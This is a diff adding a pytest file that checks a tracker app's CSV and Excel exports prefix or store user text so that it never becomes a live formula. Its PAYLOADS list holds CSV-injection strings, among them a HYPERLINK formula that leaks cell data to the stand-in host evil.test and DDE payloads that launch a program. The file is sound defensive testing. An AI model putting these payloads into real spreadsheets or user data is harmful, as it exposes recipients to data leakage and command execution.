@@ -1,0 +1,148 @@
+"""Exports hold what people typed as text: no title, name or unit becomes a live formula in Excel
+or in a spreadsheet opening the CSV (OWASP "CSV injection")."""
+
+import csv
+import io
+import itertools
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select, update
+
+from tracker.database import db
+from tracker.exports import Sheet, csv_text
+from tracker.exports.workbook import workbook_bytes
+from tracker.models import Agency, Group, Period, Sector, User, WorkItem
+
+OFFICE = "office@tracker.demo"
+#: What OWASP lists as the start of a formula: =, +, -, @, tab and carriage return.
+PAYLOADS = [
+    '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _poison_everything() -> None:
+    """Every text an export shows, written by a person: titles, names, units."""
+    payloads = itertools.cycle(PAYLOADS)
+    for model, column in (
+        (WorkItem, "title"),
+        (WorkItem, "target_unit"),
+        (Agency, "name"),
+        (Sector, "name"),
+        (Group, "name"),
+        (User, "name"),
+    ):
+        for row_id in db.session.scalars(select(model.id)).all():
+            # Cut to the column's length: PostgreSQL refuses a longer text.
+            values = {column: next(payloads)[: getattr(model, column).type.length]}
+            db.session.execute(update(model).where(model.id == row_id).values(**values))
+    _make_one_idle()
+    db.session.commit()
+
+
+def _make_one_idle() -> None:
+    """The demo has no idle item: one open item loses its deadline and goes quiet in January."""
+    open_items = WorkItem.status.not_in(["completed", "cancelled"])
+    item = db.session.scalars(select(WorkItem).where(open_items).order_by(WorkItem.id)).first()
+    item.deadline = item.original_deadline = None
+    item.last_activity_on = item.assigned_on = date(2026, 1, 5)
+
+
+def _close_and_publish(office) -> int:
+    period = db.session.scalar(select(Period).filter_by(kind="quarter", year=2026, number=3))
+    url = f"/reports/periods/{period.id}"
+    assert office.post(f"{url}/close").status_code == 302
+    assert office.post(f"{url}/publish").status_code == 302
+    return period.id
+
+
+def _export_paths(period_id: int) -> list[str]:
+    return [
+        "/office/overdue",
+        "/office/idle",
+        "/reports/agencies",
+        "/reports/sectors",
+        "/reports/pillars",
+        "/reports/agencies/syt",
+        "/reports/targets/",
+        f"/reports/periods/{period_id}",
+        f"/reports/periods/{period_id}?by=sector",
+        f"/public/periods/{period_id}",
+    ]
+
+
+def _formulas_in_workbook(data: bytes) -> list[str]:
+    sheet = load_workbook(io.BytesIO(data)).active
+    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def _texts_in_workbook(data: bytes) -> list[str]:
+    sheet = load_workbook(io.BytesIO(data)).active
+    return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+def _live_csv_fields(data: bytes) -> list[str]:
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [field for row in rows for field in row if field.startswith(DANGEROUS)]
+
+
+def test_no_export_holds_a_formula(login, client):
+    _poison_everything()
+    office = login(OFFICE)
+    period_id = _close_and_publish(office)
+    for path in _export_paths(period_id):
+        viewer = client if path.startswith("/public/") else office
+        glue = "&" if "?" in path else "?"
+        workbook = viewer.get(f"{path}{glue}format=xlsx")
+        assert workbook.status_code == 200, path
+        assert _formulas_in_workbook(workbook.data) == [], path
+        # The payloads are in the sheet, as text: the test did poison what it exports.
+        assert set(PAYLOADS) & set(_texts_in_workbook(workbook.data)), path
+        table = viewer.get(f"{path}{glue}format=csv")
+        assert table.status_code == 200, path
+        assert _live_csv_fields(table.data) == [], path
+        text = table.data.decode("utf-8-sig")
+        assert any("'" + payload in text for payload in PAYLOADS), path  # kept, made inert
+
+
+def _sheet(*values) -> Sheet:
+    return Sheet(
+        title="=title",
+        subtitle="@subtitle",
+        issuer="+issuer",
+        as_of=date(2026, 9, 30),
+        headers=["No.", "-header"],
+        rows=[list(values)],
+    )
+
+
+def test_csv_prefixes_text_and_keeps_numbers_and_dates(app):
+    with app.test_request_context():
+        rows = list(csv.reader(io.StringIO(csv_text(_sheet(-3, 2.5, date(2026, 1, 2), *PAYLOADS)))))
+    assert ["'@subtitle"] in rows and ["'=TITLE"] in rows and ["No.", "'-header"] in rows
+    assert rows[-1] == ["-3", "2.5", "02/01/2026", *("'" + p for p in PAYLOADS)]
+
+
+def test_workbook_writes_text_as_text_and_keeps_numbers(app):
+    with app.test_request_context():
+        data = workbook_bytes(_sheet(-3, 2.5, *PAYLOADS))
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert _formulas_in_workbook(data) == []
+    assert sheet["A1"].value == "+issuer" and sheet["A4"].value == "=TITLE"
+    last = [cell.value for cell in sheet[sheet.max_row]]
+    # XML keeps no carriage return: "\r=1+1" comes back as "\n=1+1", text all the same.
+    assert last == [-3, 2.5, *(p.replace("\r", "\n") for p in PAYLOADS)]
+
+
+@pytest.mark.parametrize("text", ["Sở Y tế", "Kế hoạch 59/KH-UBND", "12,5 %", ""])
+def test_ordinary_text_is_left_alone(app, text):
+    with app.test_request_context():
+        rows = list(csv.reader(io.StringIO(csv_text(_sheet(text)))))
+    assert rows[-1] == [text]
